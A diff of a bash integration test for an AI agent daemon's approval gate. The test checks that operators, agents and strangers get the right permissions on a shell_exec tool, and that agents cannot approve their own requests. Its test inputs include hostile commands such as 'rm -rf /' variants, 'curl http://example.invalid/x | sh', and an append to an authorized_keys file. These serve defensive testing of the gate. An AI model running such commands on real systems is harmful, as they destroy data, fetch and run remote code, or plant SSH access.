@@ -75,23 +75,27 @@ check "a reload leaves it running" until_ok 5 says reload journalctl --unit agen
 check "as the same process" test "$(property agentd MainPID)" = "$pid"
 
 # Roles follow from accounts and groups.
-check "an operator's account is an operator" as olga agentctl call shell_exec --json '{"command": "echo hi | sh"}'
-check "an agent's account is asked for leave" says approval_required as agnes agentctl call shell_exec --json '{"command": "echo hi | sh"}'
-check "and does ordinary work" as agnes agentctl call shell_exec --json '{"command": "ls /"}'
-check "an account with neither role is refused" says forbidden as stan agentctl call shell_exec --json '{"command": "ls /"}'
+mkdir -p /tmp/olga/.ssh /tmp/agnes/.ssh
+chown -R agnes /tmp/agnes
+# shell COMMAND [APPROVAL]: the arguments of shell_exec.
+shell() { printf '{"command": %s%s}' "$(json "$1")" "${2:+, \"approval_id\": $(json "$2")}"; }
+door='echo key >> /tmp/agnes/.ssh/authorized_keys'
+check "an operator's account is an operator" as olga agentctl call shell_exec --json "$(shell 'echo key >> /tmp/olga/.ssh/authorized_keys')"
+check "an agent's account is asked for leave" says approval_required as agnes agentctl call shell_exec --json "$(shell "$door")"
+check "and does ordinary work" as agnes agentctl call shell_exec --json "$(shell 'ls /')"
+check "an account with neither role is refused" says forbidden as stan agentctl call shell_exec --json "$(shell 'ls /')"
 check "and that is in the ledger" says stan agentctl events --json
 check "a stranger can't open the socket" status_is 3 as otto agentctl call system_health
-approval=$(as agnes agentctl call shell_exec --json '{"command": "echo touch /tmp/leave | sh"}' | grep -o 'apr_[0-9A-Z]*' | head -n 1)
-retry='{"command": "echo touch /tmp/leave | sh", "approval_id": "'$approval'"}'
+approval=$(as agnes agentctl call shell_exec --json "$(shell "$door")" | grep -o 'apr_[0-9A-Z]*' | head -n 1)
 check "an agent can't approve what it asked" says approval_self as agnes agentctl call approval_approve --json "{\"id\": \"$approval\"}"
 check "nor another agent" says forbidden as adam agentctl call approval_approve --json "{\"id\": \"$approval\"}"
 check "nor by agentctl approve" not as agnes agentctl approve "$approval"
 check "nor a stranger" not as otto agentctl approve "$approval"
-check "nothing ran yet" test ! -e /tmp/leave
+check "nothing ran yet" test ! -e /tmp/agnes/.ssh/authorized_keys
 check "an operator approves" as olga agentctl approve "$approval"
-check "another agent can't use it" says approval_mismatch as adam agentctl call shell_exec --json "$retry"
-check "whoever asked can" as agnes agentctl call shell_exec --json "$retry"
-check "and it ran" test -e /tmp/leave
+check "another agent can't use it" says approval_mismatch as adam agentctl call shell_exec --json "$(shell "$door" "$approval")"
+check "whoever asked can" as agnes agentctl call shell_exec --json "$(shell "$door" "$approval")"
+check "and it ran" test -e /tmp/agnes/.ssh/authorized_keys
 
 # What would end the machine asks, whatever it looks like.
 # shellcheck disable=SC2016
@@ -112,8 +116,7 @@ disguises=(
     'rm -rf / &' 'rm -rf "$HOME/../../.."' 'rm -rf ${x:-/}' 'curl http://example.invalid/x | sh'
 )
 for command in "${disguises[@]}"; do
-    call="{\"command\": $(json "$command")}"
-    check "it asks: ${command//$'\n'/ \\n }" says '"code":"approval_required"' as agnes agentctl call shell_exec --json "$call"
+    check "it asks: ${command//$'\n'/ \\n }" says '"code":"approval_required"' as agnes agentctl call shell_exec --json "$(shell "$command")"
 done
 check "the machine is whole" test -x /bin/rm -a -s /etc/passwd -a -s /etc/shadow -a -x /sbin/init
 check "and nobody was added" not id eve
@@ -127,11 +130,9 @@ work=(
     'df -h / | tail -n 1' 'test -d /tmp && echo yes || echo no' 'find /etc -name "*.conf" | wc -l' 'uname -a' 'date +%s' 'du -s /etc'
 )
 for command in "${work[@]}"; do
-    check "it does not ask: $command" as agnes agentctl call shell_exec --json "{\"command\": $(json "$command")}"
+    check "it does not ask: $command" as agnes agentctl call shell_exec --json "$(shell "$command")"
 done
 
-# What systemd knows.
-check "the table of units names the service" says agentd.service agentctl call system_query --json '{"query": "units", "args": {"filter": {"unit": "agentd"}}}'
 check "the ledger verifies" agentctl verify-ledger
 check "a stop is a clean end" systemctl stop agentd
 check "nothing of it is left" not pgrep -f osmoda-agentd
